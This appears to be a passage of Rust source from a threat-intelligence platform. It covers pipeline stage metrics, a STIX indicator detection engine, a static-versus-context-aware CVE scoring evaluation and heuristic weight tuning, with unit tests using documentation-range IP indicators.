    pub records_out: usize,
    /// Items the stage dropped (`records_in - records_out` for
    /// filtering stages, 0 for transforming ones).
    pub dropped: usize,
    /// Wall-clock time spent in the stage, in nanoseconds.
    pub wall_nanos: u64,
}

impl StageRecord {
    /// A stage record measured by the caller.
    pub fn timed(records_in: usize, records_out: usize, wall_nanos: u64) -> Self {
        StageRecord {
            records_in,
            records_out,
            dropped: records_in.saturating_sub(records_out),
            wall_nanos,
        }
    }

    /// The deterministic part: counters without the wall time.
    pub fn counts(&self) -> (usize, usize, usize) {
        (self.records_in, self.records_out, self.dropped)
    }

    /// *Input* throughput: items **offered** to the stage per second
    /// (0 for an untimed stage). For filtering stages this counts
    /// dropped records too — it answers "how fast does this stage
    /// consume work", not "how fast does it produce output"; use
    /// [`StageRecord::output_throughput`] for the latter.
    pub fn throughput(&self) -> f64 {
        if self.wall_nanos == 0 {
            0.0
        } else {
            self.records_in as f64 / (self.wall_nanos as f64 / 1e9)
        }
    }

    /// *Output* throughput: items the stage **passed on** per second
    /// (0 for an untimed stage). Unlike [`StageRecord::throughput`],
    /// dropped records don't inflate this rate, so it's the honest
    /// number for stages like publish whose input was pre-filtered.
    pub fn output_throughput(&self) -> f64 {
        if self.wall_nanos == 0 {
            0.0
        } else {
            self.records_out as f64 / (self.wall_nanos as f64 / 1e9)
        }
    }
}

/// The per-stage breakdown of one ingestion round, following the
/// pipeline order: filter → dedup → compose → enrich → reduce →
/// publish.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, Serialize, Deserialize)]
pub struct StageMetrics {
    /// NLP-relevance plus warninglist filtering.
    pub filter: StageRecord,
    /// Duplicate suppression.
    pub dedup: StageRecord,
    /// Aggregation/correlation into cIoCs.
    pub compose: StageRecord,
    /// Heuristic scoring (cIoC → eIoC).
    pub enrich: StageRecord,
    /// Inventory reduction (eIoC → rIoC).
    pub reduce: StageRecord,
    /// Bus publication and MISP write-back.
    pub publish: StageRecord,
}

impl StageMetrics {
    /// Whether two rounds processed identical record counts at every
    /// stage (wall times, which legitimately differ between the serial
    /// and parallel paths, are ignored).
    pub fn same_counts(&self, other: &StageMetrics) -> bool {
        self.filter.counts() == other.filter.counts()
            && self.dedup.counts() == other.dedup.counts()
            && self.compose.counts() == other.compose.counts()
            && self.enrich.counts() == other.enrich.counts()
            && self.reduce.counts() == other.reduce.counts()
            && self.publish.counts() == other.publish.counts()
    }

    /// Total wall time across all stages, in nanoseconds.
    pub fn total_nanos(&self) -> u64 {
        self.filter.wall_nanos
            + self.dedup.wall_nanos
            + self.compose.wall_nanos
            + self.enrich.wall_nanos
            + self.reduce.wall_nanos
            + self.publish.wall_nanos
    }

    /// `(name, record)` pairs in pipeline order, for tabular display.
    pub fn stages(&self) -> [(&'static str, StageRecord); 6] {
        [
            ("filter", self.filter),
            ("dedup", self.dedup),
            ("compose", self.compose),
            ("enrich", self.enrich),
            ("reduce", self.reduce),
            ("publish", self.publish),
        ]
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn timed_derives_dropped() {
        let stage = StageRecord::timed(10, 7, 1_000);
        assert_eq!(stage.counts(), (10, 7, 3));
        assert_eq!(stage.wall_nanos, 1_000);
    }

    #[test]
    fn throughput_is_per_second() {
        let stage = StageRecord::timed(500, 500, 1_000_000_000);
        assert!((stage.throughput() - 500.0).abs() < 1e-9);
        assert_eq!(StageRecord::default().throughput(), 0.0);
    }

    #[test]
    fn output_throughput_excludes_dropped() {
        let stage = StageRecord::timed(500, 200, 1_000_000_000);
        assert!((stage.throughput() - 500.0).abs() < 1e-9);
        assert!((stage.output_throughput() - 200.0).abs() < 1e-9);
        assert_eq!(StageRecord::default().output_throughput(), 0.0);
    }

    #[test]
    fn same_counts_ignores_wall_time() {
        let a = StageMetrics {
            filter: StageRecord::timed(4, 4, 10),
            ..StageMetrics::default()
        };
        let mut b = a;
        b.filter.wall_nanos = 99_999;
        assert!(a.same_counts(&b));
        b.filter.records_out = 3;
        assert!(!a.same_counts(&b));
    }

    #[test]
    fn total_and_table() {
        let mut m = StageMetrics::default();
        m.dedup.wall_nanos = 5;
        m.publish.wall_nanos = 7;
        assert_eq!(m.total_nanos(), 12);
        assert_eq!(m.stages()[1].0, "dedup");
        assert_eq!(m.stages()[1].1.wall_nanos, 5);
    }

    #[test]
    fn serde_roundtrip() {
        let m = StageMetrics {
            enrich: StageRecord::timed(3, 3, 42),
            ..StageMetrics::default()
        };
        let value = serde_json::to_value(m).unwrap();
        let back: StageMetrics = serde_json::from_value(value).unwrap();
        assert_eq!(back, m);
    }
}
