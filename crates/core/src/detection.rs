//! Detection replay: stored indicator patterns evaluated against live
//! sensor observations.
//!
//! STIX indicators "contain patterns used to detect suspicious or
//! malicious cyber activity" (Section III-B2a). This module turns the
//! platform's stored intelligence back into detection: sensor events
//! become STIX observations, every armed indicator's pattern is
//! evaluated over a sliding window of them, and matches are recorded as
//! sightings (feeding the Accuracy/Timeliness criteria of future
//! scoring) and surfaced as alarms.

use cais_common::Timestamp;
use cais_infra::sensors::SensorEvent;
use cais_infra::{Alarm, AlarmSeverity, SightingStore};
use cais_stix::pattern::{Observation, Pattern};
use cais_stix::prelude::*;
use cais_stix::sdo::CyberObservable;
use serde::{Deserialize, Serialize};

/// One armed detection rule: a compiled pattern plus provenance.
#[derive(Debug, Clone)]
struct ArmedIndicator {
    id: StixId,
    name: String,
    pattern: Pattern,
    valid_from: Timestamp,
    valid_until: Option<Timestamp>,
}

/// A pattern match against the observation window.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct Detection {
    /// The indicator that fired.
    pub indicator_id: StixId,
    /// Its display name.
    pub indicator_name: String,
    /// When the detection was made.
    pub detected_at: Timestamp,
    /// How many observations in the window participated.
    pub matched_observations: usize,
}

/// The replay engine: armed indicators over a bounded observation
/// window.
pub struct DetectionEngine {
    indicators: Vec<ArmedIndicator>,
    window: Vec<Observation>,
    window_cap: usize,
    rejected_patterns: usize,
}

impl DetectionEngine {
    /// Creates an engine keeping at most `window_cap` recent
    /// observations.
    pub fn new(window_cap: usize) -> Self {
        DetectionEngine {
            indicators: Vec::new(),
            window: Vec::new(),
            window_cap: window_cap.max(1),
            rejected_patterns: 0,
        }
    }

    /// Arms a STIX indicator. Indicators whose patterns do not compile
    /// are counted and skipped — a malformed pattern must not take down
    /// detection.
    pub fn arm(&mut self, indicator: &Indicator) {
        match indicator.compiled_pattern() {
            Ok(pattern) => self.indicators.push(ArmedIndicator {
                id: indicator.id().clone(),
                name: indicator
                    .name
                    .clone()
                    .unwrap_or_else(|| indicator.pattern.clone()),
                pattern,
                valid_from: indicator.valid_from,
                valid_until: indicator.valid_until,
            }),
            Err(_) => self.rejected_patterns += 1,
        }
    }

    /// Arms every indicator in a bundle, returning how many armed.
    pub fn arm_bundle(&mut self, bundle: &Bundle) -> usize {
        let before = self.indicators.len();
        for object in bundle.objects() {
            if let StixObject::Indicator(indicator) = object {
                self.arm(indicator);
            }
        }
        self.indicators.len() - before
    }

    /// Number of armed indicators.
    pub fn armed(&self) -> usize {
        self.indicators.len()
    }

    /// Patterns rejected at arm time.
    pub fn rejected_patterns(&self) -> usize {
        self.rejected_patterns
    }

    /// Converts a sensor event into a STIX observation (IPs and carried
    /// observables become cyber-observable objects).
    pub fn observation_from_event(event: &SensorEvent) -> Observation {
        let mut observation = Observation::at(event.at);
        if let Some(src) = &event.source_ip {
            observation = observation.with_object(CyberObservable::new("ipv4-addr", src.clone()));
        }
        if let Some(dst) = &event.destination_ip {
            observation = observation.with_object(CyberObservable::new("ipv4-addr", dst.clone()));
        }
        for observable in &event.observables {
            observation = observation.with_object(CyberObservable::from(observable));
        }
        observation
    }

    /// Ingests observations and evaluates every valid armed indicator
    /// over the updated window, returning the detections.
    ///
    /// Matching indicators are recorded into `sightings` so future
    /// heuristic evaluations see the infrastructure-confirmed evidence.
    pub fn ingest(
        &mut self,
        observations: Vec<Observation>,
        now: Timestamp,
        sightings: &SightingStore,
    ) -> Vec<Detection> {
        self.window.extend(observations);
        if self.window.len() > self.window_cap {
            let excess = self.window.len() - self.window_cap;
            self.window.drain(..excess);
        }
        let mut detections = Vec::new();
        for armed in &self.indicators {
            if now < armed.valid_from || armed.valid_until.is_some_and(|until| now >= until) {
                continue;
            }
            let outcome = armed.pattern.evaluate(&self.window);
            if !outcome.is_match() {
                continue;
            }
            for &index in outcome.matched_indices() {
                for object in self.window[index].objects() {
                    if let Some(value) = object.property("value") {
                        if let Some(observable) = cais_common::Observable::parse(value) {
                            sightings.record(&observable, now, None, "detection-engine");
                        }
                    }
                }
            }
            detections.push(Detection {
                indicator_id: armed.id.clone(),
                indicator_name: armed.name.clone(),
                detected_at: now,
                matched_observations: outcome.matched_indices().len(),
            });
        }
        detections
    }

    /// Ingests raw sensor events (converting them to observations).
    pub fn ingest_events(
        &mut self,
        events: &[SensorEvent],
        now: Timestamp,
        sightings: &SightingStore,
    ) -> Vec<Detection> {
        let observations = events
            .iter()
            .map(DetectionEngine::observation_from_event)
            .collect();
        self.ingest(observations, now, sightings)
    }
}

impl std::fmt::Debug for DetectionEngine {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("DetectionEngine")
            .field("armed", &self.indicators.len())
            .field("window", &self.window.len())
            .field("rejected_patterns", &self.rejected_patterns)
            .finish()
    }
}

impl Detection {
    /// Renders the detection as an alarm for the dashboard.
    pub fn to_alarm(&self, id: u64, node: cais_infra::NodeId) -> Alarm {
        Alarm::new(
            id,
            node,
            AlarmSeverity::High,
            "-",
            "-",
            format!("indicator fired: {}", self.indicator_name),
            "detection-engine",
            self.detected_at,
        )
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn c2_indicator(valid_from: Timestamp) -> Indicator {
        Indicator::builder("[ipv4-addr:value = '203.0.113.9']", valid_from)
            .name("struts-c2")
            .label("malicious-activity")
            .build()
    }

    fn event_with_src(src: &str, at: Timestamp) -> SensorEvent {
        SensorEvent {
            at,
            sensor: "suricata".into(),
            node: None,
            severity: AlarmSeverity::Medium,
            message: "flow".into(),
            source_ip: Some(src.into()),
            destination_ip: Some("192.168.1.14".into()),
            application: None,
            observables: Vec::new(),
        }
    }

    #[test]
    fn armed_indicator_fires_on_matching_traffic() {
        let mut engine = DetectionEngine::new(100);
        engine.arm(&c2_indicator(Timestamp::EPOCH));
        let sightings = SightingStore::new();
        let now = Timestamp::from_unix_secs(100);

        let miss = engine.ingest_events(&[event_with_src("198.51.100.1", now)], now, &sightings);
        assert!(miss.is_empty());

        let hit = engine.ingest_events(&[event_with_src("203.0.113.9", now)], now, &sightings);
        assert_eq!(hit.len(), 1);
        assert_eq!(hit[0].indicator_name, "struts-c2");
        // The match landed in the sighting store.
        assert!(sightings.has_seen(&cais_common::Observable::parse("203.0.113.9").unwrap()));
    }

    #[test]
    fn validity_window_is_enforced() {
        let mut engine = DetectionEngine::new(100);
        let mut builder = Indicator::builder(
            "[ipv4-addr:value = '203.0.113.9']",
            Timestamp::from_unix_secs(1_000),
        );
        builder
            .name("late")
            .label("malicious-activity")
            .valid_until(Timestamp::from_unix_secs(2_000));
        engine.arm(&builder.build());
        let sightings = SightingStore::new();

        let too_early = engine.ingest_events(
            &[event_with_src(
                "203.0.113.9",
                Timestamp::from_unix_secs(500),
            )],
            Timestamp::from_unix_secs(500),
            &sightings,
        );
        assert!(too_early.is_empty());

        let in_window = engine.ingest_events(
            &[event_with_src(
                "203.0.113.9",
                Timestamp::from_unix_secs(1_500),
            )],
            Timestamp::from_unix_secs(1_500),
            &sightings,
        );
        assert_eq!(in_window.len(), 1);

        let expired = engine.ingest_events(
            &[event_with_src(
                "203.0.113.9",
                Timestamp::from_unix_secs(2_500),
            )],
            Timestamp::from_unix_secs(2_500),
            &sightings,
        );
        assert!(expired.is_empty());
    }

    #[test]
    fn malformed_patterns_are_rejected_not_fatal() {
        let mut engine = DetectionEngine::new(10);
        let broken = Indicator::builder("[[[", Timestamp::EPOCH).build();
        engine.arm(&broken);
        assert_eq!(engine.armed(), 0);
        assert_eq!(engine.rejected_patterns(), 1);
    }

    #[test]
    fn window_is_bounded() {
        let mut engine = DetectionEngine::new(5);
        engine.arm(&c2_indicator(Timestamp::EPOCH));
        let sightings = SightingStore::new();
        let now = Timestamp::from_unix_secs(10);
        // The hit scrolls out of a 5-observation window after 5 misses.
        engine.ingest_events(&[event_with_src("203.0.113.9", now)], now, &sightings);
        let misses: Vec<SensorEvent> = (0..5)
            .map(|i| event_with_src("198.51.100.1", now.add_millis(i)))
            .collect();
        let detections = engine.ingest_events(&misses, now, &sightings);
        assert!(detections.is_empty());
    }

    #[test]
    fn arm_bundle_picks_indicators_only() {
        let mut engine = DetectionEngine::new(10);
        let bundle = Bundle::new(vec![
            c2_indicator(Timestamp::EPOCH).into(),
            Malware::builder("emotet").label("trojan").build().into(),
        ]);
        assert_eq!(engine.arm_bundle(&bundle), 1);
    }

    #[test]
    fn multi_observation_pattern_with_followedby() {
        let mut engine = DetectionEngine::new(100);
        let mut builder = Indicator::builder(
            "[ipv4-addr:value = '203.0.113.9'] FOLLOWEDBY [ipv4-addr:value = '198.51.100.7']",
            Timestamp::EPOCH,
        );
        builder.name("two-stage").label("malicious-activity");
        engine.arm(&builder.build());
        let sightings = SightingStore::new();
        let t0 = Timestamp::from_unix_secs(10);
        assert!(engine
            .ingest_events(&[event_with_src("203.0.113.9", t0)], t0, &sightings)
            .is_empty());
        let t1 = Timestamp::from_unix_secs(20);
        let hits = engine.ingest_events(&[event_with_src("198.51.100.7", t1)], t1, &sightings);
        assert_eq!(hits.len(), 1);
        assert_eq!(hits[0].matched_observations, 2);
    }

    #[test]
    fn detection_converts_to_alarm() {
        let detection = Detection {
            indicator_id: StixId::generate("indicator"),
            indicator_name: "struts-c2".into(),
            detected_at: Timestamp::EPOCH,
            matched_observations: 1,
        };
        let alarm = detection.to_alarm(7, cais_infra::NodeId(4));
        assert_eq!(alarm.severity, AlarmSeverity::High);
        assert!(alarm.description.contains("struts-c2"));
    }
}
