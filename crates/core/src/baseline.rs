//! The static baseline and the detection-quality evaluation.
//!
//! Section I motivates the platform against platforms that "generally
//! use a static approach for threat identification". The baseline here
//! is that approach: score an IoC from its own intrinsic severity
//! (CVSS band) with no infrastructure context, and alert when the score
//! crosses a threshold. The paper's future work ("the obtained results
//! will be compared with other existing tools in terms of detection,
//! false positive and false negative rates") is implemented by
//! [`evaluate_detection`] over a labeled synthetic population.

use cais_common::{Observable, ObservableKind};
use cais_cvss::{CveId, Severity};
use cais_feeds::{FeedRecord, ThreatCategory};
use rand::rngs::StdRng;
use rand::seq::SliceRandom;
use rand::{Rng, SeedableRng};
use serde::{Deserialize, Serialize};

use crate::context::EvaluationContext;
use crate::enrich::Enricher;
use crate::ioc::ComposedIoc;
use crate::reduce::Reducer;

/// The context-free scorer: CVSS severity mapped onto the 0–5 scale,
/// category defaults when no CVE is known.
#[derive(Debug, Clone, Copy, Default)]
pub struct StaticScorer;

impl StaticScorer {
    /// Scores a composed IoC without any infrastructure knowledge.
    pub fn score(&self, cioc: &ComposedIoc, ctx: &EvaluationContext) -> f64 {
        if let Some(cve) = cioc.cve() {
            if let Ok(id) = cve.parse::<CveId>() {
                if let Some(record) = ctx.cve_db.get(&id) {
                    return match record.severity() {
                        Severity::None => 1.0,
                        Severity::Low => 2.0,
                        Severity::Medium => 3.0,
                        Severity::High => 4.0,
                        Severity::Critical => 5.0,
                    };
                }
            }
            return 1.0; // CVE with no local knowledge
        }
        // No CVE: a fixed per-category prior, the "static" part.
        match cioc.category {
            ThreatCategory::Ransomware | ThreatCategory::VulnerabilityExploitation => 4.0,
            ThreatCategory::CommandAndControl
            | ThreatCategory::MalwareDomain
            | ThreatCategory::MalwareSample
            | ThreatCategory::Phishing => 3.0,
            ThreatCategory::Scanner | ThreatCategory::Spam => 2.0,
        }
    }
}

/// Detection-quality counters.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, Serialize, Deserialize)]
pub struct ConfusionMatrix {
    /// Flagged and actually relevant.
    pub true_positives: usize,
    /// Flagged but irrelevant.
    pub false_positives: usize,
    /// Not flagged though relevant.
    pub false_negatives: usize,
    /// Correctly ignored.
    pub true_negatives: usize,
}

impl ConfusionMatrix {
    /// Detection (recall) rate: TP / (TP + FN).
    pub fn detection_rate(&self) -> f64 {
        let denom = self.true_positives + self.false_negatives;
        if denom == 0 {
            return 0.0;
        }
        self.true_positives as f64 / denom as f64
    }

    /// False-positive rate: FP / (FP + TN).
    pub fn false_positive_rate(&self) -> f64 {
        let denom = self.false_positives + self.true_negatives;
        if denom == 0 {
            return 0.0;
        }
        self.false_positives as f64 / denom as f64
    }

    /// Precision: TP / (TP + FP).
    pub fn precision(&self) -> f64 {
        let denom = self.true_positives + self.false_positives;
        if denom == 0 {
            return 0.0;
        }
        self.true_positives as f64 / denom as f64
    }
}

/// One labeled sample: a cluster plus the ground truth of whether it
/// genuinely concerns the monitored infrastructure.
#[derive(Debug, Clone)]
pub struct LabeledIoc {
    /// The composed IoC.
    pub cioc: ComposedIoc,
    /// Whether the infrastructure is actually affected.
    pub relevant: bool,
}

/// Generates a seeded population of vulnerability clusters: `relevant`
/// ones name CVEs whose affected products exist in the inventory,
/// `irrelevant` ones name CVEs affecting products the inventory lacks.
pub fn labeled_population(
    seed: u64,
    count: usize,
    relevant_fraction: f64,
    ctx: &EvaluationContext,
) -> Vec<LabeledIoc> {
    let mut rng = StdRng::seed_from_u64(seed);
    // A CVE touches the infrastructure when an affected product is an
    // installed application, or an affected OS is a node OS or a common
    // keyword (the paper's Linux rule).
    let inventory_names: Vec<String> = ctx
        .inventory
        .nodes()
        .flat_map(|n| {
            n.applications
                .iter()
                .cloned()
                .chain(std::iter::once(n.operating_system.clone()))
        })
        .chain(ctx.inventory.common_keywords().iter().cloned())
        .collect();
    let mut relevant_cves = Vec::new();
    let mut irrelevant_cves = Vec::new();
    for record in ctx.cve_db.iter() {
        let touches = record
            .affected_products
            .iter()
            .chain(record.affected_os.iter())
            .any(|name| inventory_names.iter().any(|a| a == name));
        if touches {
            relevant_cves.push(record.clone());
        } else {
            irrelevant_cves.push(record.clone());
        }
    }
    let mut out = Vec::with_capacity(count);
    for i in 0..count {
        let relevant = rng.gen_bool(relevant_fraction);
        let pool = if relevant {
            &relevant_cves
        } else {
            &irrelevant_cves
        };
        let Some(record) = pool.choose(&mut rng) else {
            continue;
        };
        let seen_at = ctx.now.add_days(-rng.gen_range(1i64..300));
        let feed_record = FeedRecord::new(
            Observable::new(ObservableKind::Cve, record.id.to_string()),
            ThreatCategory::VulnerabilityExploitation,
            format!("synthetic-feed-{}", i % 4),
            seen_at,
        )
        .with_cve(record.id.to_string())
        .with_description(record.description.clone());
        out.push(LabeledIoc {
            cioc: ComposedIoc::new(
                ThreatCategory::VulnerabilityExploitation,
                vec![feed_record],
                ctx.now,
            ),
            relevant,
        });
    }
    out
}

/// How a scoring approach decides to alert.
#[derive(Debug, Clone, Copy, PartialEq)]
pub enum Approach {
    /// The paper's pipeline: alert when a rIoC is generated (inventory
    /// match) — the score then prioritizes.
    ContextAware,
    /// The static baseline: alert when the intrinsic score crosses the
    /// threshold.
    Static {
        /// Alerting threshold on the 0–5 scale.
        threshold: f64,
    },
}

/// Runs one approach over a labeled population.
pub fn evaluate_detection(
    approach: Approach,
    population: &[LabeledIoc],
    ctx: &EvaluationContext,
) -> ConfusionMatrix {
    let enricher = Enricher::new(ctx.clone());
    let reducer = Reducer::new(std::sync::Arc::clone(&ctx.inventory));
    let scorer = StaticScorer;
    let mut matrix = ConfusionMatrix::default();
    for sample in population {
        let flagged = match approach {
            Approach::ContextAware => {
                let eioc = enricher.enrich(sample.cioc.clone());
                reducer.reduce(&eioc).is_some()
            }
            Approach::Static { threshold } => scorer.score(&sample.cioc, ctx) >= threshold,
        };
        match (flagged, sample.relevant) {
            (true, true) => matrix.true_positives += 1,
            (true, false) => matrix.false_positives += 1,
            (false, true) => matrix.false_negatives += 1,
            (false, false) => matrix.true_negatives += 1,
        }
    }
    matrix
}

#[cfg(test)]
mod tests {
    use super::*;

    fn context() -> EvaluationContext {
        EvaluationContext::paper_use_case()
    }

    #[test]
    fn static_scorer_follows_cvss() {
        let ctx = context();
        let record = FeedRecord::new(
            Observable::new(ObservableKind::Cve, "CVE-2017-9805"),
            ThreatCategory::VulnerabilityExploitation,
            "f",
            ctx.now,
        )
        .with_cve("CVE-2017-9805");
        let cioc = ComposedIoc::new(
            ThreatCategory::VulnerabilityExploitation,
            vec![record],
            ctx.now,
        );
        // CVE-2017-9805 is High (8.1) → 4.0.
        assert_eq!(StaticScorer.score(&cioc, &ctx), 4.0);
    }

    #[test]
    fn population_labels_are_consistent() {
        let ctx = context();
        let population = labeled_population(7, 300, 0.4, &ctx);
        assert!(!population.is_empty());
        let relevant = population.iter().filter(|s| s.relevant).count() as f64;
        let fraction = relevant / population.len() as f64;
        assert!((0.25..0.55).contains(&fraction), "fraction {fraction}");
    }

    #[test]
    fn context_aware_beats_static_on_false_positives() {
        let ctx = context();
        let population = labeled_population(11, 400, 0.3, &ctx);
        let aware = evaluate_detection(Approach::ContextAware, &population, &ctx);
        let static_ = evaluate_detection(Approach::Static { threshold: 3.5 }, &population, &ctx);
        // The static approach alarms on every severe CVE regardless of
        // whether the infrastructure runs the product — the paper's
        // core complaint.
        assert!(
            aware.false_positive_rate() < static_.false_positive_rate(),
            "aware FPR {} !< static FPR {}",
            aware.false_positive_rate(),
            static_.false_positive_rate()
        );
        // And it must not pay for that with missed detections.
        assert!(
            aware.detection_rate() >= static_.detection_rate() * 0.9,
            "aware detection {} collapsed vs static {}",
            aware.detection_rate(),
            static_.detection_rate()
        );
    }

    #[test]
    fn confusion_matrix_rates() {
        let m = ConfusionMatrix {
            true_positives: 8,
            false_positives: 2,
            false_negatives: 2,
            true_negatives: 8,
        };
        assert!((m.detection_rate() - 0.8).abs() < 1e-12);
        assert!((m.false_positive_rate() - 0.2).abs() < 1e-12);
        assert!((m.precision() - 0.8).abs() < 1e-12);
        assert_eq!(ConfusionMatrix::default().detection_rate(), 0.0);
    }
}
