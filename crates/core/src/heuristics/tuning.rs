//! Expert tuning of heuristic weights.
//!
//! "A value must be assigned to each feature … based on expert knowledge
//! and the usefulness of the criteria" (Section III-B2b). The built-in
//! criteria points reproduce the paper's tables; deployments with their
//! own expert assessments load a [`TuningProfile`] (plain JSON) that
//! overrides points per heuristic feature, and derive weight schemes
//! from it.

use std::collections::BTreeMap;

use serde::{Deserialize, Serialize};

use super::criteria::CriteriaPoints;
use super::registry::HeuristicKind;
use super::weights::WeightScheme;

/// A deployment's expert weight overrides.
///
/// Keys are heuristic STIX type names (`vulnerability`), values map
/// feature names to criteria points. Unmentioned features keep the
/// built-in points, so a profile only lists what it changes.
///
/// # Examples
///
/// ```
/// use cais_core::heuristics::{tuning::TuningProfile, HeuristicKind};
///
/// let profile = TuningProfile::from_json(r#"{
///     "vulnerability": {
///         "cve": {"relevance": 20, "accuracy": 5, "timeliness": 1, "variety": 1}
///     }
/// }"#).unwrap();
/// let scheme = profile.weight_scheme(HeuristicKind::Vulnerability);
/// assert_eq!(scheme.len(), 9);
/// ```
#[derive(Debug, Clone, PartialEq, Eq, Default, Serialize, Deserialize)]
#[serde(transparent)]
pub struct TuningProfile {
    overrides: BTreeMap<String, BTreeMap<String, CriteriaPoints>>,
}

impl TuningProfile {
    /// An empty profile: every heuristic keeps the built-in points.
    pub fn builtin() -> Self {
        TuningProfile::default()
    }

    /// Parses a profile from JSON.
    ///
    /// # Errors
    ///
    /// Returns the underlying `serde_json` error on malformed input.
    pub fn from_json(json: &str) -> Result<Self, serde_json::Error> {
        serde_json::from_str(json)
    }

    /// Serializes the profile to pretty JSON.
    pub fn to_json(&self) -> String {
        serde_json::to_string_pretty(&self.overrides).expect("profile serializes")
    }

    /// Sets one feature's points, builder-style.
    pub fn with_points(
        mut self,
        heuristic: HeuristicKind,
        feature: &str,
        points: CriteriaPoints,
    ) -> Self {
        self.overrides
            .entry(heuristic.stix_type().to_owned())
            .or_default()
            .insert(feature.to_owned(), points);
        self
    }

    /// The effective criteria points of one heuristic, overrides
    /// applied over the built-ins, in registry feature order.
    pub fn effective_points(&self, heuristic: HeuristicKind) -> Vec<CriteriaPoints> {
        let overrides = self.overrides.get(heuristic.stix_type());
        heuristic
            .features()
            .iter()
            .map(|feature| {
                overrides
                    .and_then(|map| map.get(feature.name))
                    .copied()
                    .unwrap_or(feature.criteria)
            })
            .collect()
    }

    /// The criteria-derived weight scheme after overrides.
    pub fn weight_scheme(&self, heuristic: HeuristicKind) -> WeightScheme {
        WeightScheme::from_criteria(self.effective_points(heuristic))
    }

    /// Feature names mentioned by the profile that no heuristic
    /// defines — configuration typos surfaced for the operator.
    pub fn unknown_features(&self) -> Vec<String> {
        let mut unknown = Vec::new();
        for (heuristic_name, features) in &self.overrides {
            let Some(kind) = HeuristicKind::from_stix_type(heuristic_name) else {
                unknown.push(format!("{heuristic_name} (heuristic)"));
                continue;
            };
            let valid = super::registry::feature_names(kind);
            for feature in features.keys() {
                if !valid.contains(&feature.as_str()) {
                    unknown.push(format!("{heuristic_name}.{feature}"));
                }
            }
        }
        unknown
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::heuristics::{feature_names, score::threat_score_named, FeatureValue};

    #[test]
    fn builtin_profile_matches_registry() {
        let profile = TuningProfile::builtin();
        for kind in HeuristicKind::ALL {
            assert_eq!(profile.weight_scheme(kind), kind.weight_scheme(), "{kind}");
        }
    }

    #[test]
    fn override_shifts_weight() {
        // Doubling the cve feature's points must raise a cve-heavy IoC's
        // score relative to the built-in weighting.
        let values: Vec<FeatureValue> = vec![
            FeatureValue::Scored(1), // operating_system
            FeatureValue::Scored(1),
            FeatureValue::Scored(1),
            FeatureValue::Scored(1),
            FeatureValue::Scored(1),
            FeatureValue::Scored(1),
            FeatureValue::Empty,
            FeatureValue::Scored(1),
            FeatureValue::Scored(5), // cve maxed
        ];
        let names = feature_names(HeuristicKind::Vulnerability);
        let builtin = threat_score_named(
            &names,
            &values,
            &TuningProfile::builtin().weight_scheme(HeuristicKind::Vulnerability),
        );
        let boosted_profile = TuningProfile::builtin().with_points(
            HeuristicKind::Vulnerability,
            "cve",
            CriteriaPoints::new(30, 5, 1, 1),
        );
        let boosted = threat_score_named(
            &names,
            &values,
            &boosted_profile.weight_scheme(HeuristicKind::Vulnerability),
        );
        assert!(boosted.total() > builtin.total());
    }

    #[test]
    fn json_roundtrip() {
        let profile = TuningProfile::builtin()
            .with_points(
                HeuristicKind::Vulnerability,
                "cve",
                CriteriaPoints::new(20, 5, 1, 1),
            )
            .with_points(
                HeuristicKind::Malware,
                "status",
                CriteriaPoints::new(9, 1, 5, 1),
            );
        let json = profile.to_json();
        let back = TuningProfile::from_json(&json).unwrap();
        assert_eq!(back, profile);
    }

    #[test]
    fn unknown_features_are_reported() {
        let profile = TuningProfile::from_json(
            r#"{
                "vulnerability": {"no_such_feature": {"relevance":1,"accuracy":1,"timeliness":1,"variety":1}},
                "frobnicator": {"x": {"relevance":1,"accuracy":1,"timeliness":1,"variety":1}}
            }"#,
        )
        .unwrap();
        let unknown = profile.unknown_features();
        assert_eq!(unknown.len(), 2);
        assert!(unknown.iter().any(|u| u.contains("no_such_feature")));
        assert!(unknown.iter().any(|u| u.contains("frobnicator")));
        assert!(TuningProfile::builtin().unknown_features().is_empty());
    }

    #[test]
    fn malformed_json_is_an_error() {
        assert!(TuningProfile::from_json("not json").is_err());
        assert!(TuningProfile::from_json(r#"{"vulnerability": 3}"#).is_err());
    }
}
