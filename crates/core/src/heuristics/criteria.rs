//! The weighting criteria of Section III-B2b: Relevance, Accuracy,
//! Timeliness and Variety.
//!
//! Each feature carries expert-assigned points per criterion; a
//! feature's weight `Pᵢ` is its point total over the point total of all
//! evaluated features (Table V computes exactly this: the
//! `external_references` row's 23 points over the 84 points of the
//! eight evaluated features gives P = 0.2738).

use serde::{Deserialize, Serialize};

/// Expert points for one feature across the four criteria.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub struct CriteriaPoints {
    /// Relevance: is the feature useful to identify a threat
    /// (`no_info`, `optional`, `required`)?
    pub relevance: u32,
    /// Accuracy: does OSINT data match infrastructure information
    /// (`no_info`, `no_match`, `partial_match`, `full_match`)?
    pub accuracy: u32,
    /// Timeliness: is the event related to an already-detected one
    /// (`no_info`, `unseen`, `unchanged`, `changed`)?
    pub timeliness: u32,
    /// Variety: how many source kinds report it
    /// (`no_info`, `single_source`, `multi_source`, `all_sources`)?
    pub variety: u32,
}

impl CriteriaPoints {
    /// Creates a point assignment.
    pub const fn new(relevance: u32, accuracy: u32, timeliness: u32, variety: u32) -> Self {
        CriteriaPoints {
            relevance,
            accuracy,
            timeliness,
            variety,
        }
    }

    /// The feature's total points — the numerator of its weight.
    pub const fn total(self) -> u32 {
        self.relevance + self.accuracy + self.timeliness + self.variety
    }
}

/// Per-criterion totals across a whole evaluation — the paper's
/// future-work item of reporting "detailed information about each
/// single criterion used in the evaluation of the score itself".
#[derive(Debug, Clone, Copy, PartialEq, Serialize, Deserialize, Default)]
pub struct CriteriaTotals {
    /// Sum of relevance points over evaluated features.
    pub relevance: u32,
    /// Sum of accuracy points over evaluated features.
    pub accuracy: u32,
    /// Sum of timeliness points over evaluated features.
    pub timeliness: u32,
    /// Sum of variety points over evaluated features.
    pub variety: u32,
}

impl CriteriaTotals {
    /// Accumulates one feature's points.
    pub fn add(&mut self, points: CriteriaPoints) {
        self.relevance += points.relevance;
        self.accuracy += points.accuracy;
        self.timeliness += points.timeliness;
        self.variety += points.variety;
    }

